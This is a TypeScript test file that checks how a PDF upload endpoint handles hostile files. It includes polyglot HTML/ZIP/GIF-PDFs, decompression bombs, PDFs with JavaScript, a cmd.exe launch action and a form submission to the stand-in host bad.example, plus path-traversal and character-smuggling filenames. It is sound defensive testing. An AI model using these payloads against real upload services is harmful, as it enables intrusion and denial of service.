import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import { describe, expect, test } from 'vitest'
import { formOf } from '../../../../test/support/forms.ts'
import { finishJobs } from '../../../../test/support/jobs.ts'
import { isLongRun } from '../../../../test/support/long-run.ts'
import { lockedPdf, pdfOf, pictureBomb, smallPdf } from '../../../../test/support/pdfs.ts'
import { useTestApp } from '../../../../test/support/test-app.ts'

/** Files that nobody should send: each is refused with a reason, or stored as a PDF and read within limits. */

const muster = useTestApp()

const NO_PDF = 'Only PDF files are allowed'
const DAMAGED = 'This PDF is damaged and cannot be opened. Save it again and upload that.'
const ENCRYPTED = 'This PDF is protected with a password. Save it without one and upload it again.'

const HTML = '<!doctype html><script>alert(1)</script>'
const GIF = Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00', 'latin1')
const ZIP = Buffer.from('PK\x03\x04\x14\x00\x00\x00', 'latin1')
const both = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)))
const MB = 1024 * 1024

/** So many compressed megabytes of zeros. One is repeated, because compressing hundreds takes seconds. */
function zeros(megabytes: number) {
  const one = deflateRawSync(Buffer.alloc(MB), { finishFlush: constants.Z_FULL_FLUSH })
  const checksum = Buffer.alloc(4)
  checksum.writeUInt32BE(((megabytes * MB) % 65_521) * 65_536 + 1)
  return both('\x78\x01', ...Array<Buffer>(megabytes).fill(one), '\x03\x00', checksum)
}

const stream = (dictionary: string, bytes: Buffer) =>
  both(`<< /Length ${bytes.length} ${dictionary} >>\nstream\n`, bytes, '\nendstream')
const flate = { dictionary: '/Filter /FlateDecode' }
const manyPages = (count: number) => Array.from({ length: count }, (_, at) => `Page ${at}`)
const whole = pdfOf({ pages: ['One', 'Two', 'Three'] })
const replaced = (from: string, to: string) => Buffer.from(whole.toString('latin1').replaceAll(from, to), 'latin1')

async function encrypted(options: PDFKit.PDFDocumentOptions) {
  const parts: Buffer[] = []
  const pdf = new PDFDocument(options)
  const ended = new Promise<void>((resolve) => pdf.on('data', (part: Buffer) => parts.push(part)).on('end', resolve))
  pdf.text('Towels').end()
  await ended
  return Buffer.concat(parts)
}

async function upload(content: Buffer | string, fileName = 'towels.pdf', type = 'application/pdf') {
  const form = formOf({ title: 'Towels' }, { content, fileName, type })
  return (await muster.as('gita')).raw({ method: 'POST', url: '/api/v1/sops', ...form })
}

const folderOfFiles = () => join(muster.services.config.dataDir, 'files')
const incoming = () => readdirSync(join(folderOfFiles(), 'incoming'))
const stored = () => readdirSync(folderOfFiles()).filter((name) => name !== 'incoming')

describe('is refused, and leaves nothing behind:', () => {
  test.each<[string, string | Buffer | (() => Promise<Buffer>), number, string]>([
    ['HTML by the name of a PDF', HTML, 415, NO_PDF],
    ['HTML that turns into a PDF', both(HTML, whole), 415, NO_PDF],
    ['a script that is also a PDF', both('/*', whole, '*/alert(1)'), 415, NO_PDF],
    ['a picture that is also a PDF', both(GIF, whole), 415, NO_PDF],
    ['an archive that is also a PDF', both(ZIP, whole), 415, NO_PDF],
    ['a program', both('MZ', Buffer.alloc(500)), 415, NO_PDF],
    ['nothing', '', 415, NO_PDF],
    ['white space', ' \n'.repeat(500), 415, NO_PDF],
    ['a megabyte of NUL', Buffer.alloc(MB), 415, NO_PDF],
    ['a header without a version', '%PDF-', 415, NO_PDF],
    ['more before the header than readers look for', both('x'.repeat(1025), whole), 415, NO_PDF],
    ['a page behind a byte order mark that is also a PDF', both('\ufeff\n', HTML, whole), 415, NO_PDF],
    ['a header in wide letters', Buffer.from('\ufeff%PDF-1.7', 'utf16le'), 415, NO_PDF],
    ['a header and nothing else', '%PDF-1.7\n%%EOF', 400, DAMAGED],
    ['a header and noise', both('%PDF-1.7\n', deflateSync(whole)), 400, DAMAGED],
    ['the first hundred bytes', whole.subarray(0, 100), 400, DAMAGED],
    ['a document without pages', pdfOf({ pages: [] }), 400, DAMAGED],
    [
      'pages that are not there',
      replaced('/Type /Page /Parent', '/Type /Nothing /Parent').subarray(0, 200),
      400,
      DAMAGED,
    ],
    ['no catalogue', replaced('/Type /Catalog', '/Type /Cat').subarray(0, 60), 400, DAMAGED],
    ['one locked with a password', () => encrypted({ userPassword: 'secret' }), 400, ENCRYPTED],
    [
      'one locked with AES and a password',
      () => encrypted({ userPassword: 'x', pdfVersion: '1.7ext3' }),
      400,
      ENCRYPTED,
    ],
    ['one whose pages and attachments are locked', lockedPdf('pages'), 400, ENCRYPTED],
  ])('%s', async (_, content, status, message) => {
    const reply = await upload(typeof content === 'function' ? await content() : content)
    expect([reply.status, reply.json.message]).toEqual([status, message])
    expect([stored(), incoming()]).toEqual([[], []])
  })
})

const javascript = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); while\\(true\\){}) >>'

type Taken = [name: string, content: Buffer | (() => Promise<Buffer>), pages: number]
/** `adapters/pdf.test.ts` has one of each limit. */
const huge: Taken[] = [
  ['one of 10,000 pages', async () => pdfOf({ pages: manyPages(10_000), listed: 500 }), 10_000],
  ['a page that unpacks into 400 MB', async () => pdfOf({ content: { ...flate, bytes: zeros(400) } }), 1],
  [
    'a page that unpacks twice into far more',
    async () =>
      pdfOf({ content: { dictionary: '/Filter [/FlateDecode /FlateDecode]', bytes: deflateSync(zeros(400)) } }),
    1,
  ],
  [
    'a page of a million open brackets',
    async () => pdfOf({ content: { dictionary: '', bytes: Buffer.alloc(MB, '[') } }),
    1,
  ],
  ['a page with a text of a million letters', async () => pdfOf({ pages: ['x'.repeat(MB)] }), 1],
]

describe('is taken as a PDF, read within limits and sent so that nothing in it runs:', () => {
  test.each<Taken>([
    ['one with a script', pdfOf({ catalogue: javascript }), 1],
    ['one that would start a program', pdfOf({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 1],
    [
      'one that would send a form away',
      pdfOf({ page: '/AA << /O << /S /SubmitForm /F (http://bad.example) >> >>' }),
      1,
    ],
    ['one that holds a program', pdfOf({ objects: [stream('/Type /EmbeddedFile', both('MZ', Buffer.alloc(99)))] }), 1],
    ['one with HTML behind it', both(smallPdf(), HTML), 1],
    ['one with an archive behind it', both(smallPdf(), ZIP), 1],
    ['one that has lost its end', whole.subarray(0, whole.length - 20), 3],
    ['one whose table of contents is wrong', replaced('startxref', 'startxxxx'), 3],
    ['one whose table points at itself', pdfOf({ trailer: '/Prev 9' }), 1],
    ['one of 2,000 pages in one list', pdfOf({ pages: manyPages(2_000) }), 2_000],
    ['one that claims a million pages', replaced('/Count 3', '/Count 1000000'), 3],
    ['one whose pages are their own parents', replaced('/Kids [1000 0 R 1002 0 R 1004 0 R]', '/Kids [2 0 R]'), 1],
    ['a page of ten kilometres', pdfOf({ page: '/MediaBox [0 0 28346456 28346456]' }), 1],
    ['a page of less than nothing', pdfOf({ page: '/MediaBox [0 0 -5 -5]' }), 1],
    ['a page that turns by nonsense', pdfOf({ page: '/Rotate 17 /UserUnit 1e30' }), 1],
    ['a page that holds itself', pdfOf({ objects: [formOfItself()], page: itself }), 1],
    ['one locked against changes only', () => encrypted({ ownerPassword: 'secret' }), 1],
    ['one of which only what is attached is locked', lockedPdf('attachments', ['One', 'Two']), 2],
    ['one behind the lines of a mail', both('From: gita@hotel.example\r\n\r\n', whole), 3],
    ['one behind commands for a printer', both('\x1b%-12345X@PJL SET COPIES=2\n', whole), 3],
    ['one behind as much as readers look through', both('x'.repeat(1000), whole), 3],
    ['a page whose picture unpacks into gigabytes', pictureBomb(100_000), 1],
    ...(isLongRun ? huge : []),
  ])('%s', async (_, content, pages) => {
    const bytes = typeof content === 'function' ? await content() : content
    const reply = await upload(bytes)
    expect([reply.status, reply.json.message]).toEqual([201, undefined])
    expect(reply.json.pages).toBe(pages)
    await finishJobs(muster.services)
    const file = await (await muster.as('uli')).raw({ method: 'GET', url: reply.json.fileUrl })
    expect(file.headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-length': String(bytes.length),
      'x-content-type-options': 'nosniff',
      'content-security-policy':
        "default-src 'none'; object-src 'none'; base-uri 'none'; sandbox; frame-ancestors 'none'",
    })
    expect(incoming()).toEqual([])
    expect((await muster.stranger().raw({ method: 'GET', url: '/healthz' })).status).toBe(200)
  })
})

const itself = '/Resources << /XObject << /X 900 0 R >> /Font << /F1 3 0 R >> >>'
function formOfItself() {
  return stream(
    `/Type /XObject /Subtype /Form /BBox [0 0 9 9] ${'/Resources << /XObject << /X 900 0 R >> >>'}`,
    Buffer.from('/X Do'),
  )
}

describe('a name is stored without what could do harm:', () => {
  test.each([
    ['towels.pdf', 'towels.pdf'],
    ['../../etc/passwd', 'passwd.pdf'],
    ['C:\\Users\\gita\\towels.pdf', 'towels.pdf'],
    ['..', 'document.pdf'],
    ['/', 'document.pdf'],
    ['towels.html', 'towels.html.pdf'],
    ['to%22wels%0D%0Ax.pdf', 'to wels x.pdf'],
    ['to\\"wels.pdf', 'to wels.pdf'],
    ['\u202efdp.slewot.exe', 'fdp.slewot.exe.pdf'],
    ['a\u200bb\u2066c\ufeff.pdf', 'abc.pdf'],
    ['Äpfel & Öl – 毛巾 🧺.PDF', 'Äpfel & Öl – 毛巾 🧺.pdf'],
    ['<script>.pdf', 'script.pdf'],
    ['...hidden.pdf', 'hidden.pdf'],
    [`${'x'.repeat(5000)}.pdf`, /^x{100,}\.pdf$/],
  ])('%j', async (given, stored) => {
    const reply = await upload(smallPdf(), given)
    expect(reply.status).toBe(201)
    if (stored instanceof RegExp) expect(reply.json.fileName).toMatch(stored)
    else expect(reply.json.fileName).toBe(stored)
    const file = await (await muster.as('uli')).raw({ method: 'GET', url: reply.json.fileUrl })
    expect(file.headers['content-disposition']).toMatch(
      /^attachment; filename="[^"\\%;]+\.pdf"; filename\*=UTF-8''[\w%.~!-]+$/,
    )
    expect(readdirSync(folderOfFiles()).filter((name) => !/^([0-9a-f]{32}|incoming)$/.test(name))).toEqual([])
  })
})
